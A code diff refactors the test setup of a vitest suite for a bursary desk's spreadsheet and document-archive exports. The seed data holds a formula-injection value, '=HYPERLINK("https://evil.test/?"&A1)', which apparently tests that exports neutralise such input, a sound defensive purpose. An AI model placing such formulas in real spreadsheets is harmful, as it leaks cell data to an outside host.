@@ -1,65 +1,58 @@
 import type { Duplex } from 'node:stream'
 import { read, utils } from '@e965/xlsx'
 import { strFromU8, unzipSync } from 'fflate'
-import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { describe, expect, test } from 'vitest'
 import { DOCUMENTS, submittedFileLabel } from '../../../domain/documents.ts'
 import type { SubmissionSummary } from '../../../domain/submissions.ts'
 import { zipOf } from '../../../server/platform/zip.ts'
 import { readPdf } from '../../support/pdf.ts'
 import { entriesOfCall } from '../audit/trail.ts'
-import { PDF, startServer, type Caller, type TestServer } from '../fixture.ts'
+import { PDF, startServer } from '../fixture.ts'
 import { advanceTo } from '../advance.ts'
 import { idOf, ownerOf, referenceOf, seed } from './seed.ts'
 import { shortlistings } from '../../../server/platform/database/schema/submissions.ts'
+import { closedAfterAll } from '../../support/closing.ts'
 
 /** Exports from the desk: a table for spreadsheets, and an archive of the documents. */
 
 const FORMULA = '=HYPERLINK("https://evil.test/?"&A1)'
 const MANY = 60
 
-let server: TestServer
-let chair: Caller
-let submitted: SubmissionSummary
-beforeAll(async () => {
-  server = await startServer()
-  chair = await server.holder('bursaryAdmin')
-  const applicant = await server.applicant()
-  await advanceTo(applicant)
-  const [first] = (await applicant.get('/api/submissions')).json<SubmissionSummary[]>()
-  if (first === undefined) throw new Error('Nothing was submitted')
-  submitted = first
-  await seed(server.db, [
-    {
-      key: 'ODD',
-      lastName: FORMULA,
-      name: '+264',
-      course: 'Law; "Roman", and more',
-      motivation: '<p>One,</p><p>two\nthree &amp; four</p>',
-      submittedAt: '2030-02-01T08:00:00.000Z',
-    },
-    { key: 'AMD', lastName: 'Ümläut', versions: 2, submittedAt: '2030-02-02T08:00:00.000Z' },
-  ])
-  const decision = {
-    reason: 'Strong.',
-    decidedBy: 'chair',
-    decidedAt: new Date('2030-02-03T08:00:00.000Z'),
-    shortlisted: true,
-  }
-  const of = (key: string) => ({ submissionId: idOf(key), fellowshipId: `${key}-fellowship`, owner: ownerOf(key) })
-  await server.db.insert(shortlistings).values([
-    { ...of('AMD'), ...decision },
-    { ...of('ODD'), ...decision },
-    // The last decision undoes the one before.
-    { ...of('ODD'), ...decision, shortlisted: false, outcome: 'undecided', reason: 'The decision was undone.' },
-  ])
-  const more = Array.from({ length: MANY }, (_, index) => ({
-    key: `M${String(index).padStart(2, '0')}`,
-    institution: 'Many',
-    submittedAt: '2030-03-01T08:00:00.000Z',
-  }))
-  await seed(server.db, more)
-})
-afterAll(() => server.close())
+const server = closedAfterAll(await startServer())
+const chair = await server.holder('bursaryAdmin')
+const applicant = await server.applicant()
+await advanceTo(applicant)
+const [submitted] = (await applicant.get('/api/submissions')).json<[SubmissionSummary]>()
+await seed(server.db, [
+  {
+    key: 'ODD',
+    lastName: FORMULA,
+    name: '+264',
+    course: 'Law; "Roman", and more',
+    motivation: '<p>One,</p><p>two\nthree &amp; four</p>',
+    submittedAt: '2030-02-01T08:00:00.000Z',
+  },
+  { key: 'AMD', lastName: 'Ümläut', versions: 2, submittedAt: '2030-02-02T08:00:00.000Z' },
+])
+const decision = {
+  reason: 'Strong.',
+  decidedBy: 'chair',
+  decidedAt: new Date('2030-02-03T08:00:00.000Z'),
+  shortlisted: true,
+}
+const of = (key: string) => ({ submissionId: idOf(key), fellowshipId: `${key}-fellowship`, owner: ownerOf(key) })
+await server.db.insert(shortlistings).values([
+  { ...of('AMD'), ...decision },
+  { ...of('ODD'), ...decision },
+  // The last decision undoes the one before.
+  { ...of('ODD'), ...decision, shortlisted: false, outcome: 'undecided', reason: 'The decision was undone.' },
+])
+const more = Array.from({ length: MANY }, (_, index) => ({
+  key: `M${String(index).padStart(2, '0')}`,
+  institution: 'Many',
+  submittedAt: '2030-03-01T08:00:00.000Z',
+}))
+await seed(server.db, more)
 
 /** Parses CSV as in RFC 4180. */
 function cellsOf(csv: string): string[][] {
@@ -226,8 +219,8 @@ describe('an export', () => {
     const exported = await entriesOfCall(server.db, pdf.headers['x-request-id'])
     expect(exported.map(({ object }) => object).toSorted()).toEqual(submissions.toSorted())
 
-    const more = Array.from({ length: 101 - MANY }, (_, index) => ({ key: `P${index}`, institution: 'Many' }))
-    await seed(server.db, more)
+    const others = Array.from({ length: 101 - MANY }, (_, index) => ({ key: `P${index}`, institution: 'Many' }))
+    await seed(server.db, others)
     const tooMany = await link('dossiers', { institution: 'Many' })
     expect([tooMany.statusCode, tooMany.json()]).toMatchObject([
       422,
